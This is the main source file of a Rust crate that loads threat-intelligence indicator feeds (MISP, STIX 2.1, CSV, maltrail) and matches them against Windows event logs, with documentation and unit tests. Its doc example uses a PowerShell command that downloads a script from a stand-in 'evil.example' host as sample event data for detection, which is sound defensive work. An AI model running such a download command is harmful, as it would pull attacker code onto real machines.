//! # tracehunt-ioc: IOC feeds matched against Windows events
//!
//! Loads indicators of compromise from three feed formats into an [`IocSet`] and matches every
//! [`Event`] against all of them at once with set and automaton lookups (never one loop per
//! IOC):
//!
//! * **MISP event JSON** ([`FeedFormat::Misp`]): `{"Event":{…}}`, `{"response":[{"Event":{…}}]}`
//!   or an array of either (MISP automation API, "Event" export). Attributes of the event and of
//!   its objects (`Attribute[]`, `Object[].Attribute[]`, deleted ones skipped) of the types
//!   `md5`, `sha1`, `sha256`, `sha512`, `filename|<hash>`, `domain`, `hostname`, `domain|ip`,
//!   `ip-dst`, `ip-src`, `ip-dst|port`, `ip-src|port`, `url` are loaded; other types are
//!   counted in [`LoadReport::skipped`]. `imphash` is deliberately not loaded: an import hash
//!   names an import table, not a file, and unrelated binaries share it (every .NET executable
//!   has `f34d5f2d4577ed6d9ceec516c1f5a744`, which an ESET event lists and which matched 20
//!   benign EVTX-ATTACK-SAMPLES / Mordor events). `to_ids` is not required (ESET exports mark many
//!   real IOCs `to_ids: false`). The actor comes from the event's galaxy clusters
//!   (`Galaxy[].GalaxyCluster[]` of galaxy types `threat-actor`, `mitre-intrusion-set`,
//!   `mitre-enterprise-attack-intrusion-set`, `eset-threat-actor`, `microsoft-activity-group`,
//!   with their `meta.synonyms`) and from tags `misp-galaxy:<type>="<name>"` of the same types
//!   (event-level and attribute-level). A trailing comma before `]`/`}` (seen in a real ESET
//!   export) is repaired with a diagnostic.
//! * **STIX 2.1 bundles** ([`FeedFormat::Stix`]): `indicator` objects with
//!   `pattern_type: "stix"` (STIX 2.1 §4.5 / §9 patterning). Supported comparisons:
//!   `file:hashes.'SHA-256'|'SHA-1'|'SHA-512'|MD5 = '…'`, `ipv4-addr:value` / `ipv6-addr:value`
//!   `= '…'` or `ISSUBSET '…/n'`, `domain-name:value = '…'`, `url:value = '…'`, combined with
//!   `AND` / `OR` and parentheses inside one observation expression `[…]` and between
//!   observation expressions. Anything else (other objects or operators, `NOT`, `LIKE`,
//!   `MATCHES`, `FOLLOWEDBY`, qualifiers `WITHIN`/`REPEATS`/`START`) rejects that indicator with a
//!   diagnostic naming its id. **Simplification:** `AND` (within or across observation
//!   expressions) is evaluated per event: every term of a conjunction must match the same
//!   event. `indicates` relationships from the indicator to an `intrusion-set` or
//!   `threat-actor` (directly, or to a `campaign` that is `attributed-to` one) tie the
//!   indicator to that actor, with its ATT&CK id (`external_references[source_name =
//!   "mitre-attack"].external_id`) when present.
//! * **CSV** ([`FeedFormat::Csv`]): `type,value[,actor]`, header row optional, `#` comments.
//!   Types: `md5`, `sha1`, `sha256`, `sha512`, `hash` (by length), `ip`, `ipv4`,
//!   `ipv6`, `ip-src`, `ip-dst`, `cidr`, `domain`, `hostname`, `url`, and the MISP `a|b` forms.
//! * **Plain lists** ([`FeedFormat::List`]): one indicator a line (`value[,actor]`), its type
//!   inferred; refused as not a feed when fewer than half of the lines hold an indicator.
//!
//! Values are normalised (hashes lower-case hex of the right length; domains lower-case without
//! a trailing dot; `[.]`, `(.)`, `hxxp` defanging undone; IP addresses and CIDRs parsed) and
//! de-duplicated by `(kind, value)`; each [`Ioc`] keeps every [`Origin`] it came from (feed,
//! event uuid / indicator id / CSV line, actors).
//!
//! ## Matching ([`IocSet::matches`])
//!
//! | IOC kind | event fields (names compare ASCII case-insensitively) | lookup |
//! |---|---|---|
//! | hashes | any field whose name contains `hash` (Sysmon `Hashes` = `SHA256=…,MD5=…,IMPHASH=…`), or named `md5`/`sha1`/`sha256`/`sha512`/`imphash` | hash set; `ALG=` prefixes restrict the kind |
//! | IP / CIDR | fields named like an address: ending in `ip`, `address`, `ipv4`, `ipv6`, `resp_h`, `orig_h` (`DestinationIp`, `SourceIp`, `IpAddress`, `ClientAddress`, Zeek `id.resp_h`…); `::ffff:a.b.c.d` and `[addr]:port` forms accepted | one hash table per prefix length present (longest-prefix style) |
//! | domain, URL, exact IPv4 | [`TEXT_FIELDS`] (`QueryName`, `DestinationHostname`, `CommandLine`, `ScriptBlockText`, Zeek `query`/`host`/`uri`, …) | one Aho-Corasick automaton (ASCII case-insensitive) over all of them, with boundary checks: a domain matches itself and its subdomains (`x.evil.com` hits `evil.com`, `notevil.com` does not) |
//!
//! One [`IocHit`] is reported per IOC per event (the first field that showed it).
//!
//! ## Example
//!
//! ```
//! use tracehunt_event::{Event, Value};
//! use tracehunt_ioc::{IocSet, IocKind};
//!
//! let mut b = IocSet::builder();
//! let report = b
//!     .load("type,value,actor\ndomain,evil.example,APT29\nip,203.0.113.0/24,\n", "feed.csv")
//!     .unwrap();
//! assert_eq!(report.loaded[&IocKind::Domain], 1);
//! let set = b.build();
//!
//! let mut ev = Event::default();
//! ev.push("CommandLine", Value::from("powershell iwr http://cdn.EVIL.example/a.ps1"));
//! ev.push("DestinationIp", Value::from("203.0.113.9"));
//! let hits = set.matches(&ev);
//! assert_eq!(hits.len(), 2);
//! assert_eq!(hits[0].value, "evil.example");
//! assert_eq!(hits[0].actors[0].name, "APT29");
//! assert_eq!(hits[1].field, "DestinationIp");
//! ```
//!
//! The crate does no I/O and never prints: callers hand it the feed text and a label for it.

mod aliases;
mod csv_feed;
mod maltrail;
mod matcher;
mod misp;
mod stix;
mod values;

use serde::Serialize;
use std::collections::{BTreeMap, HashMap};
use std::fmt;

pub use aliases::{build_alias_table, galaxy_attack_ids, ALIAS_TABLE};
pub use matcher::TEXT_FIELDS;
pub(crate) use values::{infer_type, is_type_name, normalise, parse_addr, parse_net, unusable_ip};

/// Parses one STIX 2.1 pattern (an `indicator`'s `pattern`, STIX 2.1 §9) in the subset the
/// STIX loader supports (see the crate docs), the pure entry point the loader uses for each
/// indicator (exposed for fuzzing and tools).
///
/// Returns the pattern in disjunctive normal form: a list of alternatives (OR), each a list
/// of `(type, value)` terms that must all match (AND); `type` is one of the loader's type
/// names (`md5`, `sha1`, `sha256`, `sha512`, `ipv4`, `ipv6`, `domain`, `url`) and `value` the
/// raw, not yet normalised string literal.
///
/// # Errors
/// A message saying why the pattern is not supported or not valid (unsupported object path,
/// operator or qualifier, syntax error, more than 64 alternatives or 64 terms in one AND,
/// more than 32 nested parentheses/brackets). Never panics.
pub fn parse_stix_pattern(pattern: &str) -> Result<Vec<Vec<(&'static str, String)>>, String> {
    stix::parse_pattern(pattern)
}

/// Errors that stop a whole feed from loading (per-entry problems are
/// [`LoadReport::diagnostics`] instead).
#[derive(Debug, thiserror::Error)]
pub enum IocError {
    /// The text is JSON but not valid (after the trailing-comma repair for MISP).
    #[error("{origin}: invalid JSON: {source}")]
    Json {
        /// The feed label given to the loader.
        origin: String,
        /// The parser error.
        source: serde_json::Error,
    },
    /// The JSON is neither a MISP event export nor a STIX bundle.
    #[error("{origin}: not an IOC feed: {reason}")]
    NotAFeed {
        /// The feed label given to the loader.
        origin: String,
        /// What was found instead.
        reason: String,
    },
    /// The CSV could not be read.
    #[error("{origin}: CSV: {source}")]
    Csv {
        /// The feed label given to the loader.
        origin: String,
        /// The CSV reader error.
        source: csv::Error,
    },
}

/// Kind of an indicator value.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum IocKind {
    /// MD5 file hash (32 hex digits).
    Md5,
    /// SHA-1 file hash (40 hex digits).
    Sha1,
    /// SHA-256 file hash (64 hex digits).
    Sha256,
    /// SHA-512 file hash (128 hex digits).
    Sha512,
    /// PE import hash (32 hex digits; Sysmon `IMPHASH=`). Not loaded by the feed loaders
    /// (too generic, see the crate docs); kept so that hash tokens classify.
    Imphash,
    /// Domain or host name (matches itself and its subdomains).
    Domain,
    /// URL (matched as text, ASCII case-insensitively).
    Url,
    /// IPv4/IPv6 address or CIDR network (value `1.2.3.4` or `10.0.0.0/8`).
    Ip,
}

impl IocKind {
    /// Lower-case name as used in JSON and CSV (`sha256`, `domain`, `ip`…).
    pub fn as_str(self) -> &'static str {
        match self {
            IocKind::Md5 => "md5",
            IocKind::Sha1 => "sha1",
            IocKind::Sha256 => "sha256",
            IocKind::Sha512 => "sha512",
            IocKind::Imphash => "imphash",
            IocKind::Domain => "domain",
            IocKind::Url => "url",
            IocKind::Ip => "ip",
        }
    }

    /// True for the file-hash kinds.
    pub fn is_hash(self) -> bool {
        matches!(
            self,
            IocKind::Md5 | IocKind::Sha1 | IocKind::Sha256 | IocKind::Sha512 | IocKind::Imphash
        )
    }
}

impl fmt::Display for IocKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// The feed format an IOC came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum FeedFormat {
    /// MISP event JSON.
    Misp,
    /// STIX 2.1 bundle.
    Stix,
    /// `type,value,actor` CSV.
    Csv,
    /// A plain list of indicators, one a line (`value[,actor]`), each
    /// value's type inferred.
    List,
    /// A maltrail static trail file (`apt_*.txt`: `# Aliases:`/`# Reference:` comments, one
    /// domain, address, `ip:port` or scheme-less URL a line; see the crate docs).
    Maltrail,
}

impl FeedFormat {
    /// `misp`, `stix`, `csv`, `list` or `maltrail`.
    pub fn as_str(self) -> &'static str {
        match self {
            FeedFormat::Misp => "misp",
            FeedFormat::Stix => "stix",
            FeedFormat::Csv => "csv",
            FeedFormat::List => "list",
            FeedFormat::Maltrail => "maltrail",
        }
    }
}

/// A threat actor an IOC is tied to.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
pub struct Actor {
    /// Name as the feed gives it (MISP cluster value, STIX `name`, CSV column), e.g.
    /// `Turla Group`.
    pub name: String,
    /// ATT&CK group id (`G0010`) when the feed states it (STIX external reference, MISP
    /// `mitre-intrusion-set` value `"APT32 - G0050"`, CSV value that is a G-id).
    pub attack_id: Option<String>,
    /// Other names to try when resolving the actor, most specific first: the feed's own
    /// synonyms (MISP `meta.synonyms`, STIX `aliases`), then the ATT&CK ids the MISP galaxy
    /// gives for the name ([`galaxy_attack_ids`]).
    pub aliases: Vec<String>,
}

impl Actor {
    /// An actor with the given name and feed synonyms; a trailing ` - G0xxx` in the name
    /// becomes [`Actor::attack_id`], and the MISP galaxy's ATT&CK ids for the name or its
    /// synonyms are appended to the aliases.
    pub fn new(name: &str, synonyms: &[String]) -> Actor {
        let mut name = name.trim().to_owned();
        let mut attack_id = None;
        if let Some((n, id)) = name.rsplit_once(" - ") {
            if is_group_id(id.trim()) {
                attack_id = Some(id.trim().to_ascii_uppercase());
                name = n.trim().to_owned();
            }
        }
        if attack_id.is_none() && is_group_id(&name) {
            attack_id = Some(name.to_ascii_uppercase());
        }
        let mut aliases: Vec<String> = Vec::new();
        let mut push = |a: &str| {
            let a = a.trim();
            if !a.is_empty() && a != name && !aliases.iter().any(|x| x == a) {
                aliases.push(a.to_owned());
            }
        };
        for s in synonyms {
            push(s);
        }
        for s in synonyms {
            // "Operation Windigo" → also try "Windigo".
            if let Some(rest) = s.strip_prefix("Operation ") {
                push(rest);
            }
        }
        let mut ids: Vec<&str> = galaxy_attack_ids(&name)
            .iter()
            .map(String::as_str)
            .collect();
        for s in synonyms {
            for id in galaxy_attack_ids(s) {
                if !ids.contains(&id.as_str()) {
                    ids.push(id);
                }
            }
        }
        for id in ids {
            push(id);
        }
        Actor {
            name,
            attack_id,
            aliases,
        }
    }
}

/// `G` + 4 digits (any case).
fn is_group_id(s: &str) -> bool {
    let b = s.as_bytes();
    b.len() == 5 && (b[0] == b'G' || b[0] == b'g') && b[1..].iter().all(u8::is_ascii_digit)
}

/// Where one IOC entry came from.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
pub struct IocSource {
    /// Feed format.
    pub format: FeedFormat,
    /// The label the caller gave the feed (usually its path).
    pub feed: String,
    /// MISP event uuid, STIX indicator id, or `line N` for CSV.
    pub id: String,
    /// MISP event `info`, STIX indicator `name`, if any.
    pub title: Option<String>,
}

/// One way an [`Ioc`] was listed: a source, its actors, and for STIX `AND` patterns the
/// conjunction every term of which must match the same event.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Origin {
    /// Feed entry.
    pub source: IocSource,
    /// Actors the entry is tied to (may be empty).
    pub actors: Vec<Actor>,
    /// Index of the conjunction (see [`IocSet::conjunction`]) this term belongs to, if any.
    pub conjunction: Option<usize>,
}

/// One indicator value with everything that listed it.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Ioc {
    /// Kind.
    pub kind: IocKind,
    /// Normalised value: lower-case hex, lower-case domain, URL as given (defanged), IP address
    /// or CIDR in canonical text form.
    pub value: String,
    /// Every feed entry that listed it (at least one).
    pub origins: Vec<Origin>,
}

/// An IOC found in an event.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct IocHit {
    /// Index of the IOC in the set ([`IocSet::ioc`]).
    pub ioc: usize,
    /// IOC kind.
    pub kind: IocKind,
    /// IOC value (normalised).
    pub value: String,
    /// Event field that showed it, as the event names it (`Hashes`, `QueryName`…).
    pub field: String,
    /// The text in that field that matched (the hash token, the address, the domain/URL
    /// occurrence as written).
    pub matched: String,
    /// Actors of the origins that apply (de-duplicated, feed order).
    pub actors: Vec<Actor>,
    /// Sources of the origins that apply.
    pub sources: Vec<IocSource>,
    /// The origins that apply, each pairing a feed entry with the actors *it* names (a value
    /// that feeds list under several actors has one origin per listing). Use
    /// [`IocHit::sources_of`] to cite an actor's own entries, never `sources[0]`.
    #[serde(skip)]
    pub origins: Vec<Origin>,
    /// The loaded set's multi-actor counts per feed format ([`IocSet::multi_actor_counts`]),
    /// the measurement behind how exclusive an actor label of that format is.
    #[serde(skip)]
    pub listing: BTreeMap<FeedFormat, MultiActor>,
}

/// How many actor-tied values a set holds from one feed format, and how many of those the
/// loaded feeds list under more than one actor (distinct actor names, any format).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct MultiActor {
    /// Distinct `(kind, value)` IOCs with at least one actor from this format.
    pub values: u64,
    /// Of them, those listed under two or more distinct actor names.
    pub multi: u64,
}

impl IocHit {
    /// The feed entries that tie this hit to the actor named `actor` (as in [`Actor::name`]),
    /// in feed order; empty when no origin names it.
    pub fn sources_of(&self, actor: &str) -> Vec<&IocSource> {
        let mut out: Vec<&IocSource> = Vec::new();
        for o in &self.origins {
            if o.actors.iter().any(|a| a.name == actor) && !out.contains(&&o.source) {
                out.push(&o.source);
            }
        }
        out
    }
}

/// What loading one feed produced.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct LoadReport {
    /// Detected format.
    pub format: Option<FeedFormat>,
    /// IOC entries loaded, by kind (before de-duplication across entries).
    pub loaded: BTreeMap<IocKind, usize>,
    /// Entries not loaded, by feed type (`text`, `filename`, `regkey|value`, or
    /// `invalid <kind>` for values that do not parse).
    pub skipped: BTreeMap<String, usize>,
    /// MISP events / STIX indicators / CSV rows read.
    pub entries: usize,
    /// Actor names found (sorted, de-duplicated).
    pub actors: Vec<String>,
    /// Problems that did not stop the feed: rejected STIX patterns (naming the indicator id),
    /// repaired JSON, bad CSV rows.
    pub diagnostics: Vec<String>,
}

impl LoadReport {
    fn new(format: FeedFormat) -> LoadReport {
        LoadReport {
            format: Some(format),
            ..LoadReport::default()
        }
    }

    /// Total IOC entries loaded.
    pub fn total(&self) -> usize {
        self.loaded.values().sum()
    }

    fn skip(&mut self, what: impl Into<String>) {
        *self.skipped.entry(what.into()).or_default() += 1;
    }

    fn actor(&mut self, a: &Actor) {
        if let Err(i) = self.actors.binary_search(&a.name) {
            self.actors.insert(i, a.name.clone());
        }
    }
}

/// Collects IOCs from feeds; [`IocSetBuilder::build`] compiles the lookups.
#[derive(Debug, Default)]
pub struct IocSetBuilder {
    iocs: Vec<Ioc>,
    index: HashMap<(IocKind, String), usize>,
    conjunctions: Vec<Vec<usize>>,
}

impl IocSetBuilder {
    /// Loads a feed, detecting its format by content: JSON with `"type": "bundle"` is STIX,
    /// JSON with `Event` / `response` is MISP, text with maltrail's `# Reference:` /
    /// `# Aliases:` comments (or its copyright header) and no `,` in a value line is a maltrail
    /// trail file ([`IocSetBuilder::load_maltrail`]), anything else not starting with `{` / `[`
    /// is CSV or a plain list of indicators ([`IocSetBuilder::load_csv`]).
    /// `origin` labels the feed in every [`IocSource`] (pass the file path; for maltrail its
    /// file name names the actor).
    pub fn load(&mut self, text: &str, origin: &str) -> Result<LoadReport, IocError> {
        let t = text.trim_start_matches('\u{feff}').trim_start();
        if !(t.starts_with('{') || t.starts_with('[')) {
            if maltrail::looks_like(t) {
                return Ok(self.load_maltrail(text, origin));
            }
            return self.load_csv(text, origin);
        }
        let (value, repaired) = parse_json_lenient(t, origin)?;
        let is_bundle = value.get("type").and_then(|v| v.as_str()) == Some("bundle");
        let mut report = if is_bundle {
            stix::load(self, &value, origin)
        } else {
            misp::load(self, &value, origin)?
        };
        if repaired {
            report.diagnostics.insert(
                0,
                format!("{origin}: JSON repaired (trailing comma before ']' or '}}' removed)"),
            );
        }
        Ok(report)
    }

    /// Loads MISP event JSON (see the crate docs).
    pub fn load_misp(&mut self, text: &str, origin: &str) -> Result<LoadReport, IocError> {
        let (value, repaired) = parse_json_lenient(text, origin)?;
        let mut r = misp::load(self, &value, origin)?;
        if repaired {
            r.diagnostics.insert(
                0,
                format!("{origin}: JSON repaired (trailing comma removed)"),
            );
        }
        Ok(r)
    }

    /// Loads a STIX 2.1 bundle (see the crate docs).
    pub fn load_stix(&mut self, text: &str, origin: &str) -> Result<LoadReport, IocError> {
        let value: serde_json::Value =
            serde_json::from_str(text).map_err(|source| IocError::Json {
                origin: origin.to_owned(),
                source,
            })?;
        if value.get("type").and_then(|v| v.as_str()) != Some("bundle") {
            return Err(IocError::NotAFeed {
                origin: origin.to_owned(),
                reason: "JSON object without \"type\": \"bundle\"".into(),
            });
        }
        Ok(stix::load(self, &value, origin))
    }

    /// Loads a maltrail static trail file (stamparm/maltrail `trails/static/malware/apt_*.txt`):
    /// the actor from `origin`'s file name (`apt_12.txt` → `APT12`) with the `# Aliases:` names
    /// as synonyms, each trail's source = its line and the `# Reference:` URLs above it,
    /// trailing `# comment`s stripped, `ip:port` as the address, scheme-less URL trails as URL
    /// prefixes. Never fails; values that are none of these are diagnostics naming the line.
    pub fn load_maltrail(&mut self, text: &str, origin: &str) -> LoadReport {
        maltrail::load(self, text, origin)
    }

    /// Loads `type,value[,actor]` CSV, or a plain list of indicators, one a
    /// line (`value[,actor]`, the type inferred: URL, IP/CIDR, hash by
    /// length, domain) when the first row does not start with a type name.
    ///
    /// # Errors
    /// [`IocError::Csv`] for unreadable CSV; [`IocError::NotAFeed`] for a
    /// list in which fewer than half of the lines are indicators (or none is).
    pub fn load_csv(&mut self, text: &str, origin: &str) -> Result<LoadReport, IocError> {
        csv_feed::load(self, text, origin)
    }

    /// Adds one raw indicator: `kind_hint` is a MISP/CSV type name (`sha256`, `ip-dst|port`,
    /// `domain|ip`, `hash`…), `value` the raw value. Returns how many IOC entries were added
    /// (0 when the type is not an IOC type or the value is invalid; the report says which).
    pub fn add_typed(
        &mut self,
        type_name: &str,
        value: &str,
        origin: &Origin,
        report: &mut LoadReport,
    ) -> usize {
        let t = type_name.trim().to_ascii_lowercase();
        let parts: Vec<&str> = value.splitn(2, '|').collect();
        let kinds: Vec<(&str, &str)> = match t.as_str() {
            "filename|md5" | "filename|sha1" | "filename|sha256" | "filename|sha512" => {
                vec![(&t["filename|".len()..], parts.get(1).copied().unwrap_or(""))]
            }
            "domain|ip" => vec![
                ("domain", parts[0]),
                ("ip", parts.get(1).copied().unwrap_or("")),
            ],
            "ip-dst|port" | "ip-src|port" => vec![("ip", parts[0])],
            "md5" | "sha1" | "sha256" | "sha512" | "hash" | "domain" | "hostname" | "url"
            | "ip" | "ip-dst" | "ip-src" | "ipv4" | "ipv6" | "cidr" | "ipv4-addr" | "ipv6-addr"
            | "domain-name" => vec![(t.as_str(), value)],
            _ => {
                report.skip(t);
                return 0;
            }
        };
        let mut n = 0;
        for (k, v) in kinds {
            if let Some(why) = unusable_ip(k, v) {
                // As MISP warning lists do: private, loopback, link-local
                // and similar ranges match every network's own traffic.
                report.skip(format!("{k}: {why}"));
                continue;
            }
            match normalise(k, v) {
                Some((kind, value)) => {
                    self.add(kind, value, origin.clone());
                    *report.loaded.entry(kind).or_default() += 1;
                    n += 1;
                }
                None => report.skip(format!("invalid {k}")),
            }
        }
        n
    }

    /// Adds a normalised IOC (returns its index).
    fn add(&mut self, kind: IocKind, value: String, origin: Origin) -> usize {
        let key = (kind, value);
        if let Some(&i) = self.index.get(&key) {
            if !self.iocs[i].origins.contains(&origin) {
                self.iocs[i].origins.push(origin);
            }
            return i;
        }
        let i = self.iocs.len();
        self.iocs.push(Ioc {
            kind: key.0,
            value: key.1.clone(),
            origins: vec![origin],
        });
        self.index.insert(key, i);
        i
    }

    /// Compiles the lookup tables.
    pub fn build(self) -> IocSet {
        matcher::build(self.iocs, self.conjunctions)
    }
}

/// A compiled set of IOCs; immutable, `Send + Sync`. Build with [`IocSet::builder`].
pub struct IocSet {
    iocs: Vec<Ioc>,
    conjunctions: Vec<Vec<usize>>,
    m: matcher::Matcher,
    listing: BTreeMap<FeedFormat, MultiActor>,
}

impl fmt::Debug for IocSet {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("IocSet")
            .field("iocs", &self.iocs.len())
            .field("conjunctions", &self.conjunctions.len())
            .finish()
    }
}

impl IocSet {
    /// A builder to load feeds into.
    pub fn builder() -> IocSetBuilder {
        IocSetBuilder::default()
    }

    /// Number of distinct `(kind, value)` IOCs.
    pub fn len(&self) -> usize {
        self.iocs.len()
    }

    /// True when no IOC was loaded.
    pub fn is_empty(&self) -> bool {
        self.iocs.is_empty()
    }

    /// All IOCs, in load order.
    pub fn iocs(&self) -> &[Ioc] {
        &self.iocs
    }

    /// IOC by index (as in [`IocHit::ioc`]).
    pub fn ioc(&self, i: usize) -> Option<&Ioc> {
        self.iocs.get(i)
    }

    /// The IOC indices of conjunction `i` (a STIX `AND`): all must match one event.
    pub fn conjunction(&self, i: usize) -> Option<&[usize]> {
        self.conjunctions.get(i).map(Vec::as_slice)
    }

    /// Per feed format: the actor-tied values and those listed under more than one actor
    /// (distinct actor names over all origins). Measured on the whole loaded set when it was
    /// built (issue #18 item 4: the maltrail `apt_*.txt` corpus lists 12 of its 10,655 values under
    /// two or more actors).
    pub fn multi_actor_counts(&self) -> &BTreeMap<FeedFormat, MultiActor> {
        &self.listing
    }

    /// Distinct IOCs by kind.
    pub fn counts(&self) -> BTreeMap<IocKind, usize> {
        let mut m = BTreeMap::new();
        for i in &self.iocs {
            *m.entry(i.kind).or_default() += 1;
        }
        m
    }

    /// Every IOC found in `event`, one hit per IOC (the first field showing it), in field
    /// order. Terms of a STIX `AND` only count when all terms of their conjunction match this
    /// event.
    pub fn matches(&self, event: &tracehunt_event::Event) -> Vec<IocHit> {
        let raw = self.m.scan(&self.iocs, event);
        if raw.is_empty() {
            return Vec::new();
        }
        let seen: Vec<usize> = raw.iter().map(|r| r.0).collect();
        let mut hits = Vec::with_capacity(raw.len());
        for (ioc, field, matched) in raw {
            let entry = &self.iocs[ioc];
            let mut actors: Vec<Actor> = Vec::new();
            let mut sources: Vec<IocSource> = Vec::new();
            let mut origins: Vec<Origin> = Vec::new();
            for o in &entry.origins {
                if let Some(c) = o.conjunction {
                    if !self.conjunctions[c].iter().all(|t| seen.contains(t)) {
                        continue;
                    }
                }
                origins.push(o.clone());
                if !sources.contains(&o.source) {
                    sources.push(o.source.clone());
                }
                for a in &o.actors {
                    if !actors.iter().any(|x| x.name == a.name) {
                        actors.push(a.clone());
                    }
                }
            }
            if sources.is_empty() {
                continue;
            }
            hits.push(IocHit {
                ioc,
                kind: entry.kind,
                value: entry.value.clone(),
                field,
                matched,
                actors,
                sources,
                origins,
                listing: self.listing.clone(),
            });
        }
        hits
    }
}

/// Parses JSON; on failure retries once with trailing commas (`,` before `]`/`}` outside
/// strings) removed. Returns the value and whether the repair was needed.
fn parse_json_lenient(text: &str, origin: &str) -> Result<(serde_json::Value, bool), IocError> {
    match serde_json::from_str(text) {
        Ok(v) => Ok((v, false)),
        Err(first) => {
            let fixed = strip_trailing_commas(text);
            match serde_json::from_str(&fixed) {
                Ok(v) if fixed.len() != text.len() => Ok((v, true)),
                _ => Err(IocError::Json {
                    origin: origin.to_owned(),
                    source: first,
                }),
            }
        }
    }
}

fn strip_trailing_commas(text: &str) -> String {
    let b = text.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut in_str = false;
    let mut esc = false;
    for (i, &c) in b.iter().enumerate() {
        if in_str {
            out.push(c);
            if esc {
                esc = false;
            } else if c == b'\\' {
                esc = true;
            } else if c == b'"' {
                in_str = false;
            }
            continue;
        }
        if c == b'"' {
            in_str = true;
        } else if c == b',' {
            let next = b[i + 1..].iter().find(|x| !x.is_ascii_whitespace());
            if matches!(next, Some(b']') | Some(b'}')) {
                continue;
            }
        }
        out.push(c);
    }
    // Only ASCII bytes were removed, so this stays valid UTF-8.
    String::from_utf8(out).unwrap_or_else(|_| text.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::values::non_routable;

    #[test]
    fn normalises_values() {
        assert_eq!(
            normalise("hash", "D41D8CD98F00B204E9800998ECF8427E"),
            Some((IocKind::Md5, "d41d8cd98f00b204e9800998ecf8427e".into()))
        );
        assert_eq!(normalise("sha1", "abc"), None);
        assert_eq!(
            normalise("domain", "Evil[.]Example."),
            Some((IocKind::Domain, "evil.example".into()))
        );
        assert_eq!(
            normalise("url", "hxxp://evil[.]example/a"),
            Some((IocKind::Url, "http://evil.example/a".into()))
        );
        assert_eq!(
            normalise("url", "smallcloud.ga"),
            Some((IocKind::Domain, "smallcloud.ga".into()))
        );
        assert_eq!(
            normalise("ip", "10.1.2.3/8"),
            Some((IocKind::Ip, "10.0.0.0/8".into()))
        );
        assert_eq!(
            normalise("ip", "::ffff:1.2.3.4"),
            Some((IocKind::Ip, "1.2.3.4".into()))
        );
        assert_eq!(normalise("domain", "1.2.3.4"), None);
    }

    #[test]
    fn private_and_loopback_addresses_are_not_indicators() {
        // Fresh-user finding: `ip-dst,10.23.123.11,Turla` made Turla "almost certain".
        for v in [
            "10.23.123.11",
            "192.168.1.1",
            "127.0.0.1",
            "169.254.1.1",
            "fe80::1",
            "fd00::1",
            "0.0.0.0/0",
        ] {
            assert!(non_routable(&parse_net(v).unwrap()), "{v}");
        }
        for v in ["8.8.8.8", "185.12.1.0/24", "2001:db8::1"] {
            assert!(!non_routable(&parse_net(v).unwrap()), "{v}");
        }
        let mut b = IocSet::builder();
        let r = b
            .load(
                "ip-dst,10.23.123.11,Turla\nip-dst,185.12.1.7,Turla\n",
                "t.csv",
            )
            .unwrap();
        assert_eq!(b.build().len(), 1);
        assert!(
            r.skipped.keys().any(|k| k.contains("non-routable")),
            "{:?}",
            r.skipped
        );
    }

    #[test]
    fn repairs_trailing_commas_outside_strings() {
        assert_eq!(
            strip_trailing_commas(r#"{"a":[1,2,],"b":",]",}"#),
            r#"{"a":[1,2],"b":",]"}"#
        );
    }

    #[test]
    fn actor_ids_from_names() {
        let a = Actor::new("APT32 - G0050", &[]);
        assert_eq!(a.name, "APT32");
        assert_eq!(a.attack_id.as_deref(), Some("G0050"));
        let b = Actor::new("Sofacy", &["Sednit".into()]);
        assert_eq!(b.attack_id, None);
        assert_eq!(b.aliases, ["Sednit", "G0007"]);
    }
}
